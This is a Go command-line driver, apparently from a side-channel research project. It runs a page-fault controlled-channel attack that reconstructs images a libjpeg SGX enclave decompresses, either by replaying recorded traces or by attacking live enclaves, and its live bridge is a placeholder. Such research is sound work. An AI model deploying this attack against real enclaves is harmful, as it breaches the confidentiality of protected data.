// Command jpegattack reconstructs a libjpeg victim enclave's decompressed
// image purely from the sequence of pages touched during inverse-DCT,
// either by attacking a live enclave's page faults or by replaying a
// previously recorded waveform trace.
package main

import (
	"encoding/json"
	"fmt"
	"image"
	_ "image/jpeg"
	"log"
	"os"
	"strings"

	"github.com/pkg/errors"
	"golang.org/x/term"
	kingpin "gopkg.in/alecthomas/kingpin.v2"

	"sgxtlblur/internal/bridge"
	"sgxtlblur/internal/imaging"
	"sgxtlblur/internal/jpegattack"
	"sgxtlblur/internal/jpegfsm"
	"sgxtlblur/internal/trace"
	"sgxtlblur/internal/trapdispatch"
)

var (
	app = kingpin.New("jpegattack", "Page-fault reconstruction attack against a libjpeg victim enclave.")

	imagePath = app.Flag("image", "Input JPEG image whose decompression is being attacked.").Required().String()
	output    = app.Flag("output", "Reconstructed bitmap output file (PNG).").Short('o').String()
	rawOutput = app.Flag("raw-output", "Raw JSON dump of the jagged reconstruction buffer.").String()
	colorMode = app.Flag("color", "Reconstruct 3 color channels instead of greyscale.").Short('c').Bool()
	aexNotify = app.Flag("aexnotify", "Select the AEX-Notify page-range profile and 2-page working set.").Short('a').Bool()

	traceCmd = app.Command("trace", "Simulate the attack from a recorded waveform trace.")
	vcdPath  = traceCmd.Flag("vcd", "VCD waveform file to replay.").Short('v').Required().String()

	enclaveCmd  = app.Command("enclave", "Attack a live enclave using page faults.")
	enclavePath = enclaveCmd.Flag("enclave", "Path to the signed victim enclave image.").Short('e').Required().String()

	ocallsCmd         = app.Command("ocalls", "Attack a live enclave using instrumented ocalls (debug mode).")
	ocallsEnclavePath = ocallsCmd.Flag("enclave", "Path to the signed victim enclave image.").Short('e').Required().String()
)

func main() {
	cmd := kingpin.MustParse(app.Parse(os.Args[1:]))

	if err := bridge.LockMemory(); err != nil {
		log.Printf("jpegattack: %v", err)
	}

	numColors := 1
	if *colorMode {
		numColors = 3
	}
	profile := jpegfsm.Profile{AEXNotify: *aexNotify}

	p := newProgress(estimateBlocks(*imagePath, numColors))

	var rec *jpegfsm.Reconstruct
	var err error
	switch cmd {
	case traceCmd.FullCommand():
		rec, err = runTrace(*vcdPath, profile, numColors, p.tick)
	case enclaveCmd.FullCommand():
		rec, err = runEnclave(*enclavePath, profile, numColors, p.tick)
	case ocallsCmd.FullCommand():
		rec, err = runOcalls(*ocallsEnclavePath, numColors)
	default:
		log.Fatalf("jpegattack: unknown command %q", cmd)
	}
	p.done()
	if err != nil {
		log.Fatalf("jpegattack: %v", err)
	}

	if *output != "" {
		if err := (imaging.GGSink{}).WritePNG(*output, rec, *colorMode); err != nil {
			log.Fatalf("jpegattack: write output image: %v", err)
		}
	}
	if *rawOutput != "" {
		if err := writeRawDump(*rawOutput, rec); err != nil {
			log.Fatalf("jpegattack: write raw dump: %v", err)
		}
	}
}

// runTrace replays a previously recorded waveform trace through the
// reconstruction state machine with no enclave involved.
func runTrace(path string, profile jpegfsm.Profile, numColors int, onBlock func()) (*jpegfsm.Reconstruct, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, errors.Wrapf(err, "open vcd %s", path)
	}
	defer f.Close()

	pages, err := trace.ReplayPages(f)
	if err != nil {
		return nil, errors.Wrap(err, "replay vcd")
	}
	return jpegattack.ReplayPages(profile, numColors, pages, onBlock), nil
}

// runEnclave attacks a live enclave via page faults: creates the enclave,
// arms the driver's fault handler and initial page revocations, runs the
// vulnerable decompression ecalls, then tears the enclave down.
func runEnclave(enclavePath string, profile jpegfsm.Profile, numColors int, onBlock func()) (*jpegfsm.Reconstruct, error) {
	br := bridge.Unimplemented{}

	enclave, err := br.EnclaveCreate(enclavePath)
	if err != nil {
		return nil, errors.Wrap(err, "create enclave")
	}
	defer func() {
		if err := br.EnclaveDestroy(enclave.ID); err != nil {
			log.Printf("jpegattack: destroy enclave: %v", err)
		}
	}()

	d := jpegattack.New(profile, numColors, br, onBlock)

	err = br.RegisterPageFault(func(page int) {
		if err := d.Fault(page); err != nil {
			panic(err)
		}
	})
	if err != nil {
		return nil, errors.Wrap(err, "register page-fault handler")
	}
	if err := d.ProtectNextPages(); err != nil {
		return nil, errors.Wrap(err, "install initial page protections")
	}

	if err := runEcalls(br, enclave.ID, *imagePath); err != nil {
		return nil, err
	}
	return d.Reconstruct(), nil
}

// runOcalls attacks a live enclave in debug mode: instead of registering a
// page-fault handler, it wires the trap dispatcher's ocall-debug callback
// slots to drive reconstruction directly from the enclave's instrumented
// ocalls, accumulating an all-zero-block count that OnIdctSlow commits and
// resets on every slow-path entry. On real hardware the native ocall
// trampoline invokes these hooks directly; against the placeholder bridge
// used here, only the ecall sequence itself runs.
func runOcalls(enclavePath string, numColors int) (*jpegfsm.Reconstruct, error) {
	br := bridge.Unimplemented{}

	enclave, err := br.EnclaveCreate(enclavePath)
	if err != nil {
		return nil, errors.Wrap(err, "create enclave")
	}
	defer func() {
		if err := br.EnclaveDestroy(enclave.ID); err != nil {
			log.Printf("jpegattack: destroy enclave: %v", err)
		}
	}()

	rec := jpegfsm.NewReconstruct(numColors)
	h := trapdispatch.NewHandler()
	h.OnPrintString = func(s string) { log.Println(s) }
	h.OnPrintInt = func(n int) { log.Printf("%d", n) }

	skipFirstRow := true
	h.OnNextRow = func() {
		if skipFirstRow {
			skipFirstRow = false
			return
		}
		rec.NextRow()
	}

	zeroCount := 0
	h.OnAllZero = func() { zeroCount++ }
	h.OnIdctSlow = func() {
		rec.Transition(jpegfsm.State{Kind: jpegfsm.DataCount, Count: zeroCount}, jpegfsm.State{Kind: jpegfsm.IdctSlow})
		zeroCount = 0
	}

	if err := runEcalls(br, enclave.ID, *imagePath); err != nil {
		return nil, err
	}
	return rec, nil
}

func runEcalls(ecalls bridge.JpegEcalls, id uint64, imagePath string) error {
	info, err := os.Stat(imagePath)
	if err != nil {
		return errors.Wrapf(err, "stat image %s", imagePath)
	}
	cfg, err := decodeImageConfig(imagePath)
	if err != nil {
		return err
	}
	outputSize := uint64(cfg.Width*cfg.Height*3) + 100

	if err := ecalls.LoadImage(id, imagePath, uint64(info.Size()), outputSize); err != nil {
		return errors.Wrap(err, "load image")
	}
	if err := ecalls.DecompressImage(id); err != nil {
		return errors.Wrap(err, "decompress image")
	}
	if err := ecalls.FreeImage(id); err != nil {
		return errors.Wrap(err, "free image")
	}
	return nil
}

func decodeImageConfig(path string) (image.Config, error) {
	f, err := os.Open(path)
	if err != nil {
		return image.Config{}, errors.Wrapf(err, "open image %s", path)
	}
	defer f.Close()
	cfg, _, err := image.DecodeConfig(f)
	if err != nil {
		return image.Config{}, errors.Wrapf(err, "decode image dimensions %s", path)
	}
	return cfg, nil
}

func estimateBlocks(path string, numColors int) int {
	cfg, err := decodeImageConfig(path)
	if err != nil {
		return 0
	}
	blocks := (cfg.Width/8 + 1) * (cfg.Height/8 + 1)
	return blocks * numColors
}

func writeRawDump(path string, rec *jpegfsm.Reconstruct) error {
	f, err := os.Create(path)
	if err != nil {
		return errors.Wrapf(err, "create %s", path)
	}
	defer f.Close()
	enc := json.NewEncoder(f)
	enc.SetIndent("", "  ")
	return enc.Encode(rec.RawBuffer())
}

// progress prints a textual progress line sized to the terminal width,
// advanced once per reconstructed block.
type progress struct {
	total, count, width int
}

func newProgress(total int) *progress {
	width := 80
	if w, _, err := term.GetSize(int(os.Stdout.Fd())); err == nil && w > 0 {
		width = w
	}
	return &progress{total: total, width: width}
}

func (p *progress) tick() {
	p.count++
	p.render()
}

func (p *progress) done() {
	if p.count > 0 {
		fmt.Fprintln(os.Stderr)
	}
}

func (p *progress) render() {
	barWidth := p.width - 24
	if barWidth < 10 {
		barWidth = 10
	}
	filled := 0
	if p.total > 0 {
		filled = barWidth * p.count / p.total
		if filled > barWidth {
			filled = barWidth
		}
	}
	bar := strings.Repeat("#", filled) + strings.Repeat("-", barWidth-filled)
	fmt.Fprintf(os.Stderr, "\r[%s] %d/%d", bar, p.count, p.total)
}
